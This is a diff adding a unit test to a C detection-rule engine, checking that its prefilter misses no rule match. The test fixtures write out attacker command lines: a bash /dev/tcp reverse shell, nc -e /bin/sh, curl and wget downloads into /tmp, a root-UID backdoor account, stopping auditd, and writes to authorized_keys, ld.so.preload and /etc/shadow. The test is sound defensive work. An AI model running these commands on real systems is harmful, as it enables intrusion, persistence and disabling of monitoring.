@@ -557,6 +557,132 @@ static void test_log_sources(void **state)
 	hn_event_free(ev);
 }
 
+static const char *corpus(void);
+
+/* The prefilter never hides a match: over the corpus and many events, the
+ * rules that fire through hn_ruleset_match are exactly those that a plain
+ * evaluation of every rule of every source (and auditd record) fires. */
+struct fired {
+	unsigned n;
+	const struct hn_rule_info *r[512];
+};
+
+static void collect_fired(const struct hn_rule_info *rule, const struct hn_event *ev,
+			  void *arg)
+{
+	struct fired *f = arg;
+
+	(void)ev;
+	if (f->n < 512)
+		f->r[f->n++] = rule;
+}
+
+static int cmp_ptr(const void *a, const void *b)
+{
+	const void *x = *(const void *const *)a, *y = *(const void *const *)b;
+	return x < y ? -1 : x > y;
+}
+
+static void brute(const struct hn_ruleset *rs, const struct hn_event *ev,
+		  const struct hn_det_parent *par, struct fired *f)
+{
+	unsigned srcs = det_sources_of_event(ev);
+
+	for (int s = HN_DS_PROCESS_CREATION; s < HN_DS_COUNT; s++) {
+		unsigned n;
+		const unsigned *idx;
+		if (!(srcs & (1u << s)))
+			continue;
+		idx = det_ruleset_by_source(rs, (enum hn_det_source)s, &n);
+		for (unsigned i = 0; i < n; i++) {
+			const struct det_rule *rule = det_ruleset_rule(rs, idx[i]);
+			bool hit = false;
+			for (int k = 0; k < (s == HN_DS_AUDITD ? DET_AUDIT_COUNT : 1) && !hit; k++) {
+				struct det_rec rec;
+				if (s == HN_DS_AUDITD && !(det_audit_kinds(ev) & (1u << k)))
+					continue;
+				det_rec_init(&rec, ev, par, (enum hn_det_source)s, k);
+				hit = det_rule_eval(rule, &rec);
+			}
+			if (hit && f->n < 512)
+				f->r[f->n++] = &rule->info;
+		}
+	}
+}
+
+static void test_prefilter_hides_nothing(void **state)
+{
+	static const char *const argvs[][4] = {
+		{ "/usr/bin/chmod", "chmod", "+x", "/tmp/.x" },
+		{ "/usr/bin/curl", "curl", "http://1.2.3.4/x.sh", "-o /tmp/x" },
+		{ "/usr/bin/wget", "wget", "http://x/y", "-O /dev/shm/z" },
+		{ "/usr/bin/python3.11", "python3", "-c", "import pty;pty.spawn('/bin/sh')" },
+		{ "/usr/bin/bash", "bash", "-i", ">& /dev/tcp/10.0.0.1/4444 0>&1" },
+		{ "/usr/bin/nc.openbsd", "nc", "-e", "/bin/sh 10.0.0.1 4444" },
+		{ "/usr/sbin/useradd", "useradd", "-o -u 0", "backdoor" },
+		{ "/usr/bin/base64", "base64", "-d", "/tmp/p" },
+		{ "/usr/bin/crontab", "crontab", "-r", "" },
+		{ "/usr/bin/systemctl", "systemctl", "stop", "auditd" },
+		{ "/usr/sbin/iptables", "iptables", "-F", "" },
+		{ "/usr/bin/dash", "sh", "-c", "whoami; id; uname -a" },
+		{ "/tmp/.hidden/run", "run", "--cpu-priority", "5" },
+		{ "/usr/bin/find", "find", "/", "-perm -4000" },
+	};
+	static const char *const files[] = {
+		"/etc/cron.d/evil", "/etc/ld.so.preload", "/root/.ssh/authorized_keys",
+		"/etc/sudoers.d/x", "/tmp/x.sh", "/etc/passwd", "/var/log/wtmp",
+		"/home/u/.bashrc", "/etc/systemd/system/x.service",
+	};
+	struct hn_ruleset *rs;
+	struct stat sb;
+	char path[512];
+	unsigned checked = 0, hits = 0;
+
+	(void)state;
+	if (stat(corpus(), &sb) < 0)
+		skip();
+	rs = hn_ruleset_new();
+	assert_non_null(rs);
+	snprintf(path, sizeof(path), "%s/rules", corpus());
+	assert_true(hn_ruleset_load(rs, path, NULL, NULL) > 0);
+	for (size_t i = 0; i < sizeof(argvs) / sizeof(argvs[0]) * 2 +
+			    sizeof(files) / sizeof(files[0]) * 4; i++) {
+		struct hn_event *ev;
+		struct hn_det_parent par = { .image = i % 3 ? "/usr/bin/bash" : "/usr/sbin/apache2",
+					     .args = "bash\0-c\0x\0", .args_len = 10 };
+		struct fired a = { 0 }, b = { 0 };
+		if (i < sizeof(argvs) / sizeof(argvs[0]) * 2) {
+			const char *const *v = argvs[i / 2];
+			const char *argv[4] = { v[1], v[2], v[3], NULL };
+			ev = mk_exec(v[0], i % 2 ? v[0] : v[1], "/tmp", argv);
+		} else {
+			size_t k = i - sizeof(argvs) / sizeof(argvs[0]) * 2;
+			static const uint16_t t[] = { HN_EV_FILE_CREATE, HN_EV_FILE_OPEN_WRITE,
+						      HN_EV_FILE_DELETE, HN_EV_FILE_RENAME };
+			ev = mk(t[k % 4]);
+			ev->path = hn_event_puts(ev, files[k / 4]);
+			if (ev->type == HN_EV_FILE_RENAME)
+				ev->path2 = hn_event_puts(ev, "/etc/shadow");
+			ev->proc.executable = hn_event_puts(ev, "/usr/bin/vi");
+		}
+		hn_ruleset_match(rs, ev, &par, collect_fired, &a);
+		brute(rs, ev, &par, &b);
+		qsort(a.r, a.n, sizeof(a.r[0]), cmp_ptr);
+		qsort(b.r, b.n, sizeof(b.r[0]), cmp_ptr);
+		assert_int_equal(a.n, b.n);
+		for (unsigned k = 0; k < a.n; k++)
+			assert_ptr_equal(a.r[k], b.r[k]);
+		hits += a.n;
+		checked++;
+		hn_event_free(ev);
+	}
+	/* the events do fire rules: the comparison is not of empty sets */
+	assert_true(hits >= 10);
+	fprintf(stderr, "prefilter: %u events, %u matches, same as every rule tried\n",
+		checked, hits);
+	hn_ruleset_free(rs);
+}
+
 static void test_attack_tags(void **state)
 {
 	struct hn_attack at;
@@ -711,6 +837,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_mutated_rules_never_crash, setup_dir,
 						teardown_dir),
 		cmocka_unit_test(test_attack_tags),
+		cmocka_unit_test(test_prefilter_hides_nothing),
 		cmocka_unit_test(test_sigmahq_linux_corpus_loads),
 	};
 
